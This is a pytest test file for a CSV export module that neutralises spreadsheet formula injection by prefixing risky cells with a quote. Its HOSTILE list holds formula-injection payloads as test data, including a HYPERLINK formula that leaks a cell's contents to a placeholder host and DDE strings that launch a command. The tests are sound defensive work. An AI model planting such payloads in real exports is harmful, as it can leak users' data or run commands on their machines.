"""core.csv_export: every cell a spreadsheet would run as a formula is neutralised (OWASP's rule), and
numbers written by RRP stay numbers (issue 12, What was seen 5)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from rrp.core.csv_export import csv_text, safe_cell, write_csv

HOSTILE = [
    '=HYPERLINK("http://example.invalid/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
    "@",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_that_would_start_a_formula_gets_a_quote_in_front(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-3", "+12%", "-0.25", "-.5", "1.5e-3", "-1E+06", "12", "*", ""])
def test_text_that_is_a_plain_number_or_no_formula_is_written_as_it_is(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 12, -0.25, 1e308, Decimal("-1.50")])
def test_numbers_stay_numbers(value):
    assert safe_cell(value) is value


def test_none_is_an_empty_cell_and_booleans_are_text():
    assert safe_cell(None) == ""
    assert safe_cell(True) == "True"


@pytest.mark.parametrize(
    "value", ["Ward -2", "a=b", "Smith, J", 'He said "no"', "-3 wards", "+44 20 7946 0000"]
)
def test_other_text_is_kept_or_neutralised_only_at_its_start(value):
    expected = "'" + value if value[0] in "=+-@" else value
    assert safe_cell(value) == expected


def test_rows_as_mappings_are_written_in_header_order_and_read_back():
    text = csv_text(
        [{"ward": "=1+1", "count": 3, "change": "-12%"}, {"ward": "Oak", "count": None, "change": ""}],
        header=["ward", "count", "change"],
    )
    assert text == "ward,count,change\r\n'=1+1,3,-12%\r\nOak,,\r\n"
    assert list(csv.reader(io.StringIO(text)))[1] == ["'=1+1", "3", "-12%"]


def test_a_mapping_with_a_column_not_in_the_header_is_refused():
    with pytest.raises(ValueError, match="not in the header"):
        csv_text([{"ward": "Oak", "extra": 1}], header=["ward"])


def test_write_csv_counts_rows_and_quotes_separators():
    buffer = io.StringIO()
    assert write_csv(buffer, [["\r=x", "a,b"]], lineterminator="\n") == 1
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'\r=x", "a,b"]]


def test_every_csv_export_writes_through_the_shared_writer():
    """No module but core.csv_export makes a csv writer, so no export can skip the neutralising (rrp spc
    writes its own lines for speed and passes each text cell through safe_cell, tested in tests/cli)."""
    from pathlib import Path

    import rrp

    root = Path(rrp.__file__).parent
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if ("csv.writer(" in (text := path.read_text()) or "csv.DictWriter(" in text)
        and path.name != "csv_export.py"
    ]
    assert writers == []
